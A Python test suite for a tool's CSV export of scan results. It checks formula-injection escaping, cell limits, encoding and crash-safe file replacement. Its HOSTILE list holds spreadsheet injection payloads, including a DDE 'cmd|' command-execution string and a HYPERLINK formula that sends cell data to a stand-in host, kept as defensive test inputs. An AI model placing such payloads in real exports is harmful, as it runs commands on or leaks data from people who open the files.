"""The table of a scan as CSV: what a spreadsheet finds in it, and what is refused."""

import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, strategies as st
from tables import Killed, files_in, names_in, row, rows_in, written

from headscope.core.words.cells import LONGEST_CELL, csv_cells
from headscope.core.words.safe import safe
from headscope.errors import HeadscopeError, UsageError
from headscope.slices.fleet import table as tables
from headscope.slices.fleet.facts import columns
from headscope.slices.fleet.table import open_table

SIGNS = "=+-@\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}\N{FULLWIDTH HYPHEN-MINUS}\N{FULLWIDTH COMMERCIAL AT}"
HOSTILE = (
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    '=HYPERLINK("http://x/?"&A1,"open")',
    "\t=1",
    "\r=1",
    "a\n=1",
    "  =1",
    "'=1",
    'a";=1',
    ';"=1',
    ',"=1',
    "a;=1;+2",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\x1b[2J=1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1",
    "a,b",
    'a"b',
    "a\0b",
    "\N{ZERO WIDTH SPACE}=1",
)
texts = st.text(st.one_of(st.sampled_from(SIGNS + ";,\"' \t\n|\\a"), st.characters()), max_size=12)


def restored(cell: str) -> str:
    """The text of a cell, as the documentation says: without the apostrophes."""
    return re.sub(rf"""(^|;)'(?=[\s"]*[{SIGNS}'])""", r"\1", cell)


def fields(cells: list[str], delimiter: str) -> list[str]:
    """What a spreadsheet with this delimiter finds in the line of these cells."""
    stream = io.StringIO()
    csv.writer(stream, lineterminator="\n").writerow(cells)
    return [field for line in csv.reader(io.StringIO(stream.getvalue()), delimiter=delimiter) for field in line]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_hostile_name_is_a_formula(text: str, delimiter: str) -> None:
    cells = csv_cells(row("a", labels=(text, "b", text), reason=text, formula=text).to_dict() | {"reference": text})
    assert not [field for field in fields(cells, delimiter) if field.strip()[:1] in set(SIGNS)]
    assert all(cell.isprintable() for cell in cells)


@given(st.lists(texts, min_size=1, max_size=4), st.sampled_from(",;\t"))
def test_no_text_is_a_formula_whatever_splits_the_line(values: list[str], delimiter: str) -> None:
    cells = csv_cells({str(number): value for number, value in enumerate(values)})
    assert not [field for field in fields(cells, delimiter) if field.strip()[:1] and field.strip()[0] in SIGNS]


@given(texts)
def test_removing_the_apostrophes_restores_the_text(text: str) -> None:
    [cell] = csv_cells({"a": text})
    assert restored(cell) == safe(text)


def test_a_list_is_joined_and_null_is_empty(tmp_path: Path) -> None:
    path = written(
        tmp_path / "rows.csv", row("a", labels=("no", "a|b", "=1"), findings=("HS102", "HS301"), commit=None)
    )
    [found] = rows_in(path)
    assert list(found) == list(columns())
    assert (found["labels"], found["findings"], found["commit"]) == (r"no | a\|b | =1", "HS102 | HS301", "")


def test_a_cell_holds_no_more_than_a_spreadsheet_does(tmp_path: Path) -> None:
    labels = tuple(f"class {number}" for number in range(10_000))
    path = written(tmp_path / "rows.csv", row("a", labels=labels))
    [found] = rows_in(path)
    assert len(found["labels"]) == LONGEST_CELL
    assert found["labels"].endswith("...")
    assert json.loads((tmp_path / "rows.csv.jsonl").read_text())["labels"] == list(labels)


def test_the_file_has_the_mark_of_utf8_and_a_line_for_each_row(tmp_path: Path) -> None:
    path = written(tmp_path / "rows.csv", row("a\nb"), row("\N{CJK UNIFIED IDEOGRAPH-6B63}"))
    text = path.read_bytes()
    assert text.startswith(b"\xef\xbb\xbfreference,verdict,")
    assert text.count(b"\n") == 3 and b"\r" not in text
    assert names_in(path) == [r"a\nb", "\N{CJK UNIFIED IDEOGRAPH-6B63}"]


def test_it_goes_on_with_the_lines_and_writes_the_whole_table(tmp_path: Path) -> None:
    path = written(tmp_path / "rows.csv", row("a"))
    with open_table(path, go_on=True) as table:
        assert table.known.holds("a")
        table.write(row("b"))
        assert names_in(path) == ["a"]
    assert names_in(path) == ["a", "b"]
    assert files_in(tmp_path) == ["rows.csv", "rows.csv.jsonl"]


def test_an_error_writes_the_rows_so_far(tmp_path: Path) -> None:
    with pytest.raises(KeyboardInterrupt), open_table(tmp_path / "rows.csv") as table:
        table.write(row("a"))
        raise KeyboardInterrupt
    assert names_in(tmp_path / "rows.csv") == ["a"]


@pytest.mark.parametrize("step", range(1, 5))
@pytest.mark.parametrize("is_done", [False, True])
def test_a_kill_at_any_step_of_writing_the_table_loses_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: int, is_done: bool
) -> None:
    """The new file is opened, synced and moved; `is_done`: the process dies after a step, not before.

    At every step the table is whole: that of the scan before, or that of this one.
    """
    path, left = written(tmp_path / "rows.csv", row("a"), row("b")), [step]

    def dying(owner: Any, name: str) -> None:
        real = getattr(owner, name)

        def call(*given: Any, **named: Any) -> Any:
            left[0] -= 1
            if left[0] == 0 and not is_done:
                raise Killed
            result = real(*given, **named)
            if left[0] <= 0:  # whatever would still be done is not
                raise Killed
            return result

        monkeypatch.setattr(owner, name, call)

    table = open_table(path, go_on=True)
    table.write(row("c"))
    for owner, name in ((Path, "open"), (os, "fsync"), (Path, "replace"), (Path, "unlink")):
        dying(owner, name)
    with pytest.raises(Killed):
        table.__exit__(None, None, None)
    monkeypatch.undo()
    assert names_in(tmp_path / "rows.csv.jsonl") == ["a", "b", "c"]
    assert names_in(path) in (["a", "b"], ["a", "b", "c"])
    with open_table(path, go_on=True) as table:
        assert table.known.holds("c")
    assert names_in(path) == ["a", "b", "c"]


def test_no_row_leaves_no_file(tmp_path: Path) -> None:
    written(tmp_path / "rows.csv")
    assert files_in(tmp_path) == []


def test_a_file_of_somebody_else_is_not_replaced(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    path.write_text("name,age\nA,3\n")
    with pytest.raises(UsageError, match="scan"):
        open_table(path, go_on=True)
    assert path.read_text() == "name,age\nA,3\n"
    assert files_in(tmp_path) == ["rows.csv"]


def test_a_table_without_its_lines_is_not_continued(tmp_path: Path) -> None:
    path = written(tmp_path / "rows.csv", row("a"))
    (tmp_path / "rows.csv.jsonl").unlink()
    with pytest.raises(UsageError, match=r"rows\.csv\.jsonl"):
        open_table(path, go_on=True)
    assert names_in(path) == ["a"]


def test_a_pipe_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "rows.csv")
    with pytest.raises(UsageError, match="CSV"):
        open_table(tmp_path / "rows.csv")


def test_a_disk_without_room_keeps_the_old_table_and_the_lines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = written(tmp_path / "rows.csv", row("a"))

    def full(values: object) -> list[str]:
        raise OSError(28, "No space left on device")

    told = r"No space left on device; rows\.csv\.jsonl keeps the rows"
    with pytest.raises(HeadscopeError, match=told), open_table(path, go_on=True) as table:
        table.write(row("b"))
        monkeypatch.setattr(tables, "csv_cells", full)
    assert names_in(path) == ["a"]
    assert names_in(tmp_path / "rows.csv.jsonl") == ["a", "b"]
    assert files_in(tmp_path) == ["rows.csv", "rows.csv.jsonl"]
